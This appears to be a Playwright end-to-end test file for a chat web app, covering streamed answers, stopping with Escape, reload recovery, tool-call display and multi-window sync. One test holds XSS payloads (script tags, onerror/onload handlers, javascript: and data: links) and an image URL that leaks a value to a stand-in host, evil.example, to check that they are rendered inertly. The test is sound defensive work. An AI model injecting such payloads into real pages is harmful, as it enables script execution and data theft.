import { assert, layer } from "@effect/vitest"
import { Deferred, Effect, Layer } from "effect"
import type { Page } from "playwright-core"
import { Browser, complaintsOf, message, newcomer, say } from "../../test/Browser.ts"
import { StubModel } from "../../test/StubModel.ts"
import * as Reply from "../../test/StubModelReply.ts"
import { TestServer } from "../../test/TestServer.ts"

const until = (wait: () => Promise<unknown>) => Effect.promise(wait)

const answersOf = (page: Page) => page.locator(".message.answer .markdown")
const chatsOf = (page: Page) => page.getByRole("navigation", { name: "Chats" }).getByRole("link").allInnerTexts()

/** The name of what has the focus. */
const focused = (page: Page) =>
  Effect.promise(async () => {
    const control = page.locator(":focus")
    return (await control.getAttribute("aria-label")) ?? (await control.innerText()).trim()
  })

/** An answer that stays unfinished until its gate is opened. */
const slowAnswer = Effect.gen(function* () {
  const stub = yield* StubModel
  yield* stub.reset
  const gate = yield* Deferred.make<void>()
  yield* stub.enqueue(
    Reply.text(["The **first** half", " and the second."], { afterChunks: { count: 1, stop: Deferred.await(gate) } })
  )
  return { finish: Deferred.succeed(gate, undefined) }
})

const attack = `<img src=x onerror="window.attacked=1"><script>window.attacked=1</script>`
const attackingAnswer = [
  attack,
  "[press](javascript:window.attacked=1) [too](data:text/html,<script>window.attacked=1</script>)",
  "![picture](https://evil.example/leak.png?q=secret) <svg onload=window.attacked=1>",
  "[fine](https://example.com/?a=1&amp;b=2)"
].join("\n\n")

layer(Browser.layer.pipe(Layer.provideMerge(TestServer.layer)), { excludeTestServices: true, timeout: "60 seconds" })(
  "who talks at /app",
  (it) => {
    it.effect("sees the answer grow, has two chats, and finds both again after a reload", () =>
      Effect.gen(function* () {
        const { finish } = yield* slowAnswer
        const page = yield* newcomer()
        yield* until(() => say(page, "Tell me\nboth halves"))
        yield* until(() => page.getByText("first half").waitFor())
        assert.strictEqual(yield* until(() => page.locator(".markdown strong").innerText()), "first")
        assert.isTrue(yield* Effect.promise(() => page.getByRole("button", { name: "Stop" }).isVisible()))
        yield* finish
        yield* until(() => page.getByText("first half and the second.").first().waitFor())
        // Told to a screen reader once, when it is there.
        yield* until(() => page.getByRole("status").getByText("Parley has answered: The **first**").waitFor())
        yield* until(() => page.getByRole("heading", { level: 1, name: "Tell me both halves" }).waitFor())

        yield* until(() => page.getByRole("button", { name: "New chat" }).first().click())
        yield* until(() => page.getByRole("heading", { name: "What would you like" }).waitFor())
        yield* until(() => say(page, "Something else"))
        yield* until(() => answersOf(page).getByText("The stub has spoken.").waitFor())
        yield* until(() => page.getByRole("heading", { level: 1, name: "Something else" }).waitFor())
        assert.deepStrictEqual(yield* Effect.promise(() => chatsOf(page)), ["Something else", "Tell me both halves"])

        yield* until(() => page.reload())
        yield* until(() => answersOf(page).getByText("The stub has spoken.").waitFor())
        yield* until(() => page.getByRole("link", { name: "Tell me both halves" }).click())
        yield* until(() => answersOf(page).getByText("first half and the second.").waitFor())
        assert.strictEqual(yield* Effect.promise(() => page.locator(".bubble").innerText()), "Tell me\nboth halves")
        assert.deepStrictEqual(complaintsOf(page), [])
      })
    )

    it.effect("stops an answer with Escape, is told that nothing was kept, and may send again", () =>
      Effect.gen(function* () {
        const stub = yield* StubModel
        const { finish } = yield* slowAnswer
        yield* Effect.addFinalizer(() => finish)
        const page = yield* newcomer()
        yield* until(() => say(page, "A long story"))
        yield* until(() => page.getByText("first half").waitFor())
        yield* until(() => page.keyboard.press("Escape"))
        yield* until(() => page.getByText("Stopped. Neither your message").waitFor())
        assert.strictEqual(
          yield* Effect.flatMap(stub.nextCall, ({ ended }) => Effect.map(ended, ({ by }) => by)),
          "client"
        )
        yield* until(() => page.getByRole("button", { name: "Send again" }).click())
        yield* until(() => answersOf(page).getByText("The stub has spoken.").waitFor())
        assert.strictEqual(yield* Effect.promise(() => page.locator(".bubble").count()), 1)
      })
    )

    it.effect("sees which tools are at work", () =>
      Effect.gen(function* () {
        const stub = yield* StubModel
        const gate = yield* Deferred.make<void>()
        yield* stub.enqueue(
          Reply.toolCalls([{ name: "current_time", arguments: {} }]),
          Reply.text("Noon.", { beforeHeaders: Deferred.await(gate) })
        )
        const page = yield* newcomer()
        yield* until(() => say(page, "What time is it?"))
        yield* until(() =>
          page.getByRole("list", { name: "What Parley did" }).getByText("Looked up the time").waitFor()
        )
        yield* Deferred.succeed(gate, undefined)
        yield* until(() => answersOf(page).getByText("Noon.").waitFor())
      })
    )

    it.effect("finds an answer that a reload interrupted, once", () =>
      Effect.gen(function* () {
        const { finish } = yield* slowAnswer
        const page = yield* newcomer()
        yield* until(() => say(page, "Both halves"))
        yield* until(() => page.getByText("first half").waitFor())
        yield* until(() => page.reload())
        yield* until(() => page.getByText("Waiting for the answer").waitFor())
        yield* finish
        yield* until(() => answersOf(page).getByText("first half and the second.").waitFor())
        yield* until(() => page.getByRole("button", { name: "Send", exact: true }).waitFor())
        assert.strictEqual(yield* Effect.promise(() => page.locator(".bubble").count()), 1)
        assert.strictEqual((yield* (yield* StubModel).calls).length, 1)
      })
    )

    it.effect("stops an answer that a reload interrupted, and it is not begun anew", () =>
      Effect.gen(function* () {
        const stub = yield* StubModel
        const { finish } = yield* slowAnswer
        yield* Effect.addFinalizer(() => finish)
        const page = yield* newcomer()
        yield* until(() => say(page, "Both halves"))
        yield* until(() => page.getByText("first half").waitFor())
        yield* until(() => page.reload())
        yield* until(() => page.getByText("Waiting for the answer").waitFor())
        yield* until(() => page.keyboard.press("Escape"))
        yield* until(() => page.getByText("Stopped. Neither your message").waitFor())
        assert.strictEqual(
          yield* Effect.flatMap(stub.nextCall, ({ ended }) => Effect.map(ended, ({ by }) => by)),
          "client"
        )
        assert.lengthOf(yield* stub.calls, 1)
      })
    )

    it.effect("is not harmed by what people, names and answers say", () =>
      Effect.gen(function* () {
        const stub = yield* StubModel
        yield* stub.enqueue(Reply.text([attackingAnswer]))
        const page = yield* newcomer()
        yield* until(() => say(page, attack))
        yield* until(() => answersOf(page).getByText("fine").waitFor())
        yield* until(() => page.getByRole("button", { name: /^Rename/u }).click())
        yield* until(() => page.getByLabel("Name", { exact: true }).fill(attack))
        yield* until(() => page.getByLabel("Name", { exact: true }).press("Enter"))
        yield* until(() => page.getByRole("heading", { level: 1, name: attack }).waitFor())
        yield* until(() => page.reload())
        yield* until(() => answersOf(page).getByText("fine").waitFor())

        // Written out, not acted on.
        assert.strictEqual(yield* Effect.promise(() => page.locator(".bubble").innerText()), attack)
        assert.include(yield* Effect.promise(() => answersOf(page).innerText()), attack)
        assert.strictEqual(yield* Effect.promise(() => page.locator("img, .talk script, .talk svg").count()), 0)
        const links = yield* Effect.promise(() =>
          answersOf(page)
            .getByRole("link")
            .evaluateAll((all) => all.map((link) => link.getAttribute("href")))
        )
        assert.deepStrictEqual(links, ["https://evil.example/leak.png?q=secret", "https://example.com/?a=1&b=2"])
        assert.isUndefined(yield* Effect.promise(() => page.evaluate("window.attacked")))
        assert.deepStrictEqual(complaintsOf(page), [])
      })
    )

    it.effect("sees in one window what was done in another", () =>
      Effect.gen(function* () {
        const page = yield* newcomer()
        const other = yield* Effect.promise(() => page.context().newPage())
        yield* until(() => other.goto("/app"))
        yield* until(() => message(other).waitFor())
        yield* until(() => say(page, "From the first window"))
        yield* until(() => other.getByRole("link", { name: "From the first window" }).click())
        yield* until(() => answersOf(other).getByText("The stub has spoken.").waitFor())
        yield* until(() => say(other, "And back"))
        yield* until(() => page.locator(".bubble").getByText("And back").waitFor())

        // Asked first; and the focus goes back to where it came from, or to what is left.
        yield* until(() => page.bringToFront())
        const remove = page.getByRole("button", { name: "Delete From the first window" })
        yield* until(() => remove.click())
        yield* until(() => page.keyboard.press("Escape"))
        yield* until(() => page.getByRole("dialog").waitFor({ state: "detached" }))
        assert.strictEqual(yield* focused(page), "Delete From the first window")
        yield* until(() => remove.click())
        yield* until(() => page.getByRole("dialog").getByRole("button", { name: "Delete" }).click())
        yield* until(() => other.getByRole("heading", { name: "What would you like" }).waitFor())
        assert.deepStrictEqual(yield* Effect.promise(() => chatsOf(page)), [])
        yield* until(() => page.locator("#message:focus").waitFor())

        yield* until(() => page.getByRole("button", { name: "Log out" }).click())
        for (const one of [page, other]) yield* until(() => one.getByRole("heading", { name: "Log in" }).waitFor())
        assert.deepStrictEqual([complaintsOf(page), complaintsOf(other)], [[], []])
      })
    )

    it.effect("writes with the keyboard: Enter sends, Shift and Enter begin a new line", () =>
      Effect.gen(function* () {
        const page = yield* newcomer()
        yield* until(() => message(page).pressSequentially("One"))
        yield* until(() => message(page).press("Shift+Enter"))
        yield* until(() => message(page).pressSequentially("two"))
        yield* until(() => message(page).press("Enter"))
        yield* until(() => answersOf(page).getByText("The stub has spoken.").waitFor())
        assert.strictEqual(yield* Effect.promise(() => page.locator(".bubble").innerText()), "One\ntwo")
        assert.strictEqual(yield* Effect.promise(() => page.locator("#message:focus").count()), 1)
      })
    )
  }
)
